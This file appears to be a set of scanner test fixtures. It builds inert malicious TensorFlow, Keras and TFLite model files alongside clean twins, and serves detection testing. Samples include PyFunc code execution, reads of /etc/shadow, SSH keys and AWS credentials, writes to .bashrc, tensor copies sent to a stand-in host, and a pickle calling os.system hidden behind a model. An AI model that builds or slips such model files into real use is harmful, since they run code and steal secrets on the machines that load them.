// Malicious graphs by class, written node by node, and the clean twin of each class. Inert: bytes that are read, never run.
import {
  checkpointIndex,
  field,
  flatBuffer,
  flexOperator,
  kerasMetadata,
  message,
  savedModel,
  tflite,
  tfFunction,
  tfGraph,
  tfMetaGraph,
  tfNode,
  tfPackedText,
  tfSaver,
  tfTexts,
  zip,
} from '@vallum/formats/testing';
import { pickle } from '@vallum/formats/testing';
import type { AttackClass } from './attack-class.js';

const place = tfTexts('path', '/etc/passwd');
const input = tfNode('x', 'Placeholder');
const output = tfNode('y', 'Identity', ['x']);
const served = { serving_default: ['x:0'] };

/** A signature's function that holds these nodes. */
function inFunction(...nodes: readonly Uint8Array[]): Uint8Array {
  const call = tfNode('call', 'StatefulPartitionedCall', ['x'], { f: { call: 'serve' } });
  return savedModel({ nodes: [input, call], functions: [tfFunction('serve', ['x'], nodes)], signatures: served });
}

const read = tfNode('read', 'ReadFile', ['path']);
const write = tfNode('write', 'WriteFile', ['path', 'content']);
const content = tfTexts('content', 'id\n');

/** A dense model with its saver and a table over its asset, as TensorFlow 2 writes it. */
const saver = tfSaver();
export const CLEAN_GRAPH = savedModel({
  nodes: [
    input,
    tfNode('asset', 'Placeholder'),
    tfNode('variable', 'VarHandleOp'),
    tfNode('assign', 'AssignVariableOp', ['variable', 'asset']),
    tfNode('value', 'ReadVariableOp', ['variable', '^assign']),
    tfNode('table', 'HashTableV2'),
    tfNode('init', 'StatefulPartitionedCall', ['value', 'table'], { f: { call: '__inference__initializer_1' } }),
    tfNode('call', 'PartitionedCall', ['x', 'table'], { f: { call: 'serve' } }),
    ...saver.nodes,
  ],
  functions: [
    tfFunction('serve', ['x', 'table'], [tfNode('find', 'LookupTableFindV2', ['table', 'x', 'x'])]),
    tfFunction(
      '__inference__initializer_1',
      ['file', 'table'],
      [tfNode('load', 'InitializeTableFromTextFileV2', ['table', 'file'])],
    ),
    ...saver.functions,
  ],
  saver: saver.saver,
  assets: { 'asset:0': 'vocab.txt' },
  signatures: served,
});

/** The saver of a graph of version 1, whose default place is `model`. */
const oldSaver = [
  tfTexts('save/filename/input', 'model'),
  tfNode('save/filename', 'PlaceholderWithDefault', ['save/filename/input']),
  tfNode('save/Const', 'PlaceholderWithDefault', ['save/filename']),
  tfTexts('save/part', '_temp_5e2/part'),
  tfNode('save/StringJoin', 'StringJoin', ['save/Const', 'save/part']),
  tfNode('save/ShardedFilename', 'ShardedFilename', ['save/StringJoin']),
  tfNode('save/SaveV2', 'SaveV2', ['save/ShardedFilename']),
  tfNode('save/RestoreV2', 'RestoreV2', ['save/Const']),
];

const layer = (config: object): string =>
  JSON.stringify({
    class_name: 'Sequential',
    config: { name: 's', layers: [{ class_name: 'Lambda', config: { name: 'l', ...config } }] },
  });
const dense = JSON.stringify({
  name: 's',
  class_name: 'Sequential',
  config: { name: 's', layers: [{ class_name: 'Dense', config: { name: 'd', units: 3, activation: 'relu' } }] },
});
const code = { function: { class_name: '__tuple__', items: ['4wEAAAA=', null, null] }, function_type: 'lambda' };

export const TENSORFLOW_ATTACKS: readonly AttackClass[] = [
  {
    name: 'functions of Python in a graph',
    attacks: {
      PyFunc: savedModel({ nodes: [input, tfNode('f', 'PyFunc', ['x'], { token: 'pyfunc_0' })] }),
      'EagerPyFunc in a function': inFunction(tfNode('f', 'EagerPyFunc', ['x'], { token: 'pyfunc_1' })),
      'PyFuncStateless in a frozen graph': tfGraph([input, tfNode('f', 'PyFuncStateless', ['x'])]),
      'in a function that a dataset maps': savedModel({
        nodes: [tfNode('range', 'RangeDataset'), tfNode('map', 'MapDataset', ['range'], { f: { call: 'each' } })],
        functions: [tfFunction('each', ['x'], [tfNode('f', 'PyFunc', ['x'])])],
      }),
      'behind a field that no schema knows': message(
        field(1, 1),
        field(900, 'x'),
        field(2, tfMetaGraph({ nodes: [tfNode('f', 'PyFunc')], extra: [field(77, 1)] })),
      ),
      'behind a group': Buffer.concat([
        Buffer.from([0x53, 0x08, 0x01, 0x54]),
        savedModel({ nodes: [tfNode('f', 'PyFunc')] }),
      ]),
      'the last of two names of an operator': tfGraph([
        input,
        message(tfNode('f', 'Identity', ['x']), field(2, 'PyFunc')),
      ]),
      'a compiled module that calls back': savedModel({
        nodes: [tfNode('m', 'XlaCallModule', ['x'], { module: 'ML\u00efR custom_call xla_python_cpu_callback' })],
      }),
    },
    clean: {
      'a graph that only computes': savedModel({ nodes: [input, output], signatures: served }),
      'the names as text': savedModel({ nodes: [tfTexts('t', 'PyFunc', 'ReadFile'), input, output] }),
      'a compiled module that calls nothing': savedModel({
        nodes: [tfNode('m', 'XlaCallModule', ['x'], { module: 'ML\u00efR stablehlo.add' })],
      }),
    },
  },
  {
    name: 'files that a graph reads',
    attacks: {
      'a constant place': savedModel({ nodes: [place, read] }),
      'whatever a request says': savedModel({ nodes: [input, tfNode('r', 'ReadFile', ['x'])], signatures: served }),
      'in a function': inFunction(place, tfNode('r', 'ReadFile', ['path:output:0'])),
      MatchingFiles: tfGraph([tfTexts('p', '/home/*/.ssh/*'), tfNode('m', 'MatchingFiles', ['p'])]),
      'a reader of whole files': tfGraph([tfNode('q', 'FIFOQueueV2'), tfNode('r', 'WholeFileReaderV2')]),
      'a dataset of lines': savedModel({ nodes: [place, tfNode('d', 'TextLineDataset', ['path'])] }),
      'a dataset of records of fixed length': savedModel({
        nodes: [place, tfNode('d', 'FixedLengthRecordDatasetV2', ['path'])],
      }),
      'memory that is a file': tfGraph([tfNode('c', 'ImmutableConst', [], { memory_region_name: '/etc/shadow' })]),
      'records of the system': tfGraph([place, tfNode('d', 'TFRecordDatasetV2', ['path'])]),
    },
    clean: {
      'the saver and the table of a model': CLEAN_GRAPH,
      'memory of the format itself': tfGraph([
        tfNode('c', 'ImmutableConst', [], { memory_region_name: 'memmapped_package://weights' }),
        tfNode('y', 'Identity', ['c']),
      ]),
    },
  },
  {
    name: 'files that a graph writes',
    attacks: {
      WriteFile: savedModel({ nodes: [place, content, write] }),
      'in a function of a library that no node calls': savedModel({
        nodes: [input, output],
        functions: [tfFunction('f', [], [place, content, write])],
      }),
      'a saver with a place of its own': savedModel({
        nodes: [tfTexts('p', '/root/.config/autostart/x'), tfNode('s', 'SaveV2', ['p', 'n', 's', 'x'])],
      }),
      'a saver whose place leads out': savedModel({
        nodes: [
          tfNode('prefix', 'Placeholder'),
          tfTexts('part', '/../../../tmp/x'),
          tfNode('join', 'StringJoin', ['prefix', 'part']),
          tfNode('s', 'SaveV2', ['join']),
        ],
      }),
      'a saver whose place is put together': tfGraph([
        tfTexts('a', '/ro'),
        tfTexts('b', 'ot/x'),
        tfNode('join', 'StringJoin', ['a', 'b']),
        tfNode('s', 'SaveV2', ['join']),
      ]),
      'a saver that a request directs': savedModel({
        nodes: [input, tfNode('s', 'SaveV2', ['x'])],
        signatures: served,
      }),
      'a saver that a request directs, in a function': inFunction(tfNode('s', 'SaveV2', ['x'])),
      'a default that is a place': tfGraph([
        tfTexts('d', '../x'),
        tfNode('p', 'PlaceholderWithDefault', ['d']),
        tfNode('s', 'SaveV2', ['p']),
      ]),
      'a place in the content of a tensor': tfGraph([tfPackedText('p', '/tmp/x'), tfNode('s', 'SaveV2', ['p'])]),
      'a print to a file': tfGraph([input, tfNode('p', 'PrintV2', ['x'], { output_stream: 'file:///root/.bashrc' })]),
      'a cache in a file': savedModel({
        nodes: [tfNode('r', 'RangeDataset'), tfTexts('p', '/tmp/x'), tfNode('c', 'CacheDataset', ['r', 'p'])],
      }),
      'a cache in what is called an asset': savedModel({
        nodes: [tfNode('r', 'RangeDataset'), tfTexts('p', '/tmp/x'), tfNode('c', 'CacheDataset', ['r', 'p'])],
        assets: { 'p:0': 'vocab.txt' },
      }),
      'a summary in what is called an asset': savedModel({
        nodes: [
          tfNode('w', 'SummaryWriter'),
          tfTexts('p', '/tmp/x'),
          tfNode('c', 'CreateSummaryFileWriter', ['w', 'p']),
        ],
        assets: { 'p:0': 'vocab.txt' },
      }),
      'a cache in a real asset': savedModel({
        nodes: [tfNode('r', 'RangeDataset'), tfNode('p', 'Placeholder'), tfNode('c', 'CacheDataset', ['r', 'p'])],
        assets: { 'p:0': 'vocab.txt' },
      }),
    },
    clean: {
      'a saver of version 1': tfGraph([input, output, ...oldSaver]),
      'a saver of version 2': savedModel({ ...saver }),
      'a print to the terminal': tfGraph([input, tfNode('p', 'PrintV2', ['x'], { output_stream: 'stderr' })]),
      'a cache in memory': savedModel({
        nodes: [tfNode('r', 'RangeDataset'), tfTexts('p', ''), tfNode('c', 'CacheDataset', ['r', 'p'])],
      }),
    },
  },
  {
    name: 'tables and assets outside the model',
    attacks: {
      'a constant place': tfGraph([place, tfNode('i', 'InitializeTableFromTextFileV2', ['t', 'path'])]),
      'a place that leads out': tfGraph([
        tfTexts('p', 'assets/../../../x'),
        tfNode('i', 'InitializeTableFromTextFileV2', ['t', 'p']),
      ]),
      'an address': tfGraph([
        tfTexts('p', 'https://example.org/v.txt'),
        tfNode('i', 'InitializeTableFromTextFile', ['t', 'p']),
      ]),
      'an asset that leads out': savedModel({ nodes: [input, output], assets: { 'x:0': '../../etc/passwd' } }),
      'a hidden file': tfGraph([
        tfTexts('p', '.aws/credentials'),
        tfNode('i', 'InitializeTableFromTextFileV2', ['t', 'p']),
      ]),
      'an asset of the system': savedModel({
        nodes: [place, tfNode('i', 'InitializeTableFromTextFileV2', ['t', 'path'])],
        assets: { 'path:0': 'vocab.txt' },
      }),
      'an asset that stands for another file when a request reads it': savedModel({
        nodes: [
          input,
          tfTexts('p', '/home/me/x'),
          tfNode('i', 'InitializeTableFromTextFileV2', ['t', 'p']),
          tfNode('y', 'Identity', ['x', '^i']),
        ],
        assets: { 'p:0': 'vocab.txt' },
        signatures: served,
        outputs: { serving_default: ['y:0'] },
      }),
      'the same, in a function': savedModel({
        nodes: [
          input,
          tfTexts('p', '/home/me/x'),
          tfNode('y', 'StatefulPartitionedCall', ['p', 'x'], { f: { call: 'serve' } }),
        ],
        functions: [tfFunction('serve', ['file', 'x'], [tfNode('i', 'InitializeTableFromTextFileV2', ['t', 'file'])])],
        assets: { 'p:0': 'vocab.txt' },
        signatures: served,
        outputs: { serving_default: ['y:0'] },
      }),
      'an asset that is an address': savedModel({
        nodes: [tfTexts('p', 'https://example.org/v'), tfNode('i', 'InitializeTableFromTextFileV2', ['t', 'p'])],
        assets: { 'p:0': 'vocab.txt' },
      }),
      'a place that a function returns': savedModel({
        nodes: [
          tfNode('where', 'PartitionedCall', [], { f: { call: 'where' } }),
          tfNode('i', 'InitializeTableFromTextFileV2', ['t', 'where']),
        ],
        functions: [tfFunction('where', [], [place])],
      }),
      'the words of a sampler': tfGraph([
        tfNode('s', 'FixedUnigramCandidateSampler', [], { vocab_file: '/etc/passwd' }),
      ]),
    },
    clean: {
      'its asset': savedModel({
        nodes: [tfTexts('p', '/home/me/vocab.txt'), tfNode('i', 'InitializeTableFromTextFileV2', ['t', 'p'])],
        assets: { 'p:0': 'vocab.txt' },
      }),
      'its asset, which the loader reads before requests': savedModel({
        nodes: [
          input,
          tfTexts('p', '/home/me/vocab.txt'),
          tfNode('t', 'HashTableV2'),
          tfNode('i', 'InitializeTableFromTextFileV2', ['t', 'p']),
          tfNode('y', 'LookupTableFindV2', ['t', 'x', 'x']),
        ],
        assets: { 'p:0': 'vocab.txt' },
        signatures: { ...served, __saved_model_init_op: [] },
        outputs: { serving_default: ['y:0'], __saved_model_init_op: ['i'] },
      }),
      'a sampler without a file': tfGraph([tfNode('s', 'FixedUnigramCandidateSampler', [], { vocab_file: '' }), input]),
    },
  },
  {
    name: 'other machines and debugging',
    attacks: {
      'a copy to a debugger': tfGraph([
        input,
        tfNode('d', 'DebugIdentity', ['x'], { debug_urls: ['grpc://203.0.113.5:6064'] }),
      ]),
      'a dump to a file': tfGraph([input, tfNode('d', 'DebugNanCount', ['x'], { debug_urls: ['file:///tmp/x'] })]),
      'a specification in a copy': tfGraph([
        input,
        tfNode('c', 'CopyHost', ['x'], { debug_ops_spec: ['DebugIdentity;grpc://203.0.113.5:6064;0'] }),
      ]),
      'a call of another machine': tfGraph([tfTexts('a', '203.0.113.5:80'), tfNode('c', 'RpcClient', ['a'])]),
      'a server': tfGraph([tfTexts('a', '0.0.0.0:80'), tfNode('s', 'RpcServer', ['a'])]),
      'a service of data': savedModel({
        nodes: [tfTexts('a', 'grpc://203.0.113.5'), tfNode('d', 'DataServiceDatasetV4', ['i', 'm', 'a'])],
      }),
      'settings of file systems': tfGraph([tfNode('f', 'FileSystemSetConfiguration', ['s', 'k', 'v'])]),
      'a graph in a text': tfGraph([tfTexts('g', 'x'), tfNode('d', 'DatasetFromGraph', ['g'])]),
      'a native function by name': tfGraph([input, tfNode('c', 'XlaCustomCallV2', ['x'], { call_target_name: 'f' })]),
      'a stop of the process': tfGraph([input, tfNode('a', 'Abort')]),
    },
    clean: {
      'a copy without a debugger': tfGraph([input, tfNode('c', 'Copy', ['x'], { tensor_name: 'x' })]),
    },
  },
  {
    name: 'code in what Keras notes',
    attacks: {
      'a Lambda with its code': kerasMetadata(layer(code)),
      'in the objects of a graph': savedModel({
        nodes: [input, output],
        metadata: [{ identifier: '_tf_keras_sequential', text: layer(code) }],
      }),
      'a Lambda of Keras 3': kerasMetadata(
        layer({ function: { class_name: '__lambda__', config: { code: '4wEAAAA=' } } }),
      ),
      'the only object': field(1, message(field(4, '_tf_keras_layer'), field(5, layer(code)))),
      'a Lambda by itself': kerasMetadata(
        JSON.stringify({ name: 'l', class_name: 'Lambda', config: { name: 'l', ...code } }),
        '_tf_keras_layer',
      ),
      'a key that stands twice': kerasMetadata(`{"config": 1, ${layer(code).slice(1)}`),
    },
    clean: {
      'layers of Keras': kerasMetadata(dense),
      'in the objects of a graph': savedModel({
        nodes: [input, output],
        metadata: [{ identifier: '_tf_keras_sequential', text: dense }],
      }),
    },
  },
];

const bad = (parts: Parameters<typeof tflite>[0]): Uint8Array => tflite(parts);

export const TFLITE_ATTACKS: readonly AttackClass[] = [
  {
    name: 'operators of TensorFlow inside TFLite',
    attacks: {
      ReadFile: bad({ operators: [flexOperator('ReadFile')] }),
      WriteFile: bad({ operators: [{ code: 0 }, flexOperator('WriteFile')] }),
      PyFunc: bad({ operators: [flexOperator('PyFunc')] }),
      'under another name': bad({ operators: [flexOperator('Erf', 'ReadFile')] }),
      'without a definition': bad({ operators: [{ code: 'FlexErf' }] }),
      Abort: bad({ operators: [flexOperator('Abort')] }),
      'with a definition that names it last': bad({
        operators: [{ code: 'FlexErf', options: new Uint8Array(0) }],
      }),
    },
    clean: {
      'an operator that computes': tflite({ operators: [flexOperator('Erf')] }),
      'a custom operator that every runtime has': tflite({ operators: [{ code: 'TFLite_Detection_PostProcess' }] }),
    },
  },
  {
    name: 'numbers of TFLite that lead outside',
    attacks: {
      'an input of an operator': bad({ operators: [{ code: 0, inputs: [7] }] }),
      'a negative input': bad({ operators: [{ code: 0, inputs: [-2] }] }),
      'an output that is none': bad({ operators: [{ code: 0, outputs: [-1] }] }),
      'the buffer of a tensor': bad({ tensors: [9, 0] }),
      'an input of the graph': bad({ inputs: [5] }),
      'the buffer of metadata': bad({ metadata: [{ name: 'm', buffer: 99 }] }),
      'a buffer behind the end': bad({
        buffers: [{}, { 1: { number: 1_000_000, bytes: 8 }, 2: { number: 64, bytes: 8 } }],
      }),
      'weights in another folder': bad({ external: ['../../etc/passwd'] }),
      'no graph': flatBuffer({ 0: { number: 3, bytes: 4 } }, 'TFL3'),
    },
    clean: {
      'a model': tflite(),
      'an input that is left out': tflite({ operators: [{ code: 0, inputs: [0, -1] }] }),
      'a file in a zip behind the model': Buffer.concat([
        tflite({ metadata: [{ name: 'TFLITE_METADATA', buffer: 1 }] }),
        zip([{ name: 'labels.txt', data: Buffer.from('cat\ndog\n') }]),
      ]),
    },
  },
  {
    name: 'hidden behind TFLite',
    attacks: {
      'a pickle in the zip': Buffer.concat([
        tflite(),
        zip([{ name: 'labels.txt', data: pickle().global('os', 'system').call('id').stop() }]),
      ]),
      'a program in the zip': Buffer.concat([
        tflite(),
        zip([{ name: 'labels', data: Buffer.concat([Buffer.from('7f454c46', 'hex'), Buffer.alloc(60)]) }]),
      ]),
      'a graph in the zip': Buffer.concat([tflite(), zip([{ name: 'g', data: savedModel({ nodes: [place, read] }) }])]),
      'a pickle': Buffer.concat([
        tflite(),
        pickle().proto(2).global('os', 'system').call('id').stop(),
        Buffer.alloc(20),
      ]),
      'another model': Buffer.concat([tflite(), tflite({ operators: [flexOperator('PyFunc')] })]),
      'an entry that leads out': Buffer.concat([tflite(), zip([{ name: '../x', data: Buffer.from('x') }])]),
      'a Flex operator in the zip': Buffer.concat([
        tflite(),
        zip([{ name: 'm.bin', data: tflite({ operators: [flexOperator('ReadFile')] }) }]),
      ]),
    },
    clean: {},
  },
];

/** A checkpoint: its index and as many bytes of tensors as it says. */
export const CHECKPOINT = {
  'variables/variables.index': checkpointIndex([
    { name: 'a', shard: 0, offset: 0, size: 16 },
    { name: 'b', shard: 0, offset: 16, size: 8 },
  ]),
  'variables/variables.data-00000-of-00001': Buffer.alloc(24, 0xc3),
};
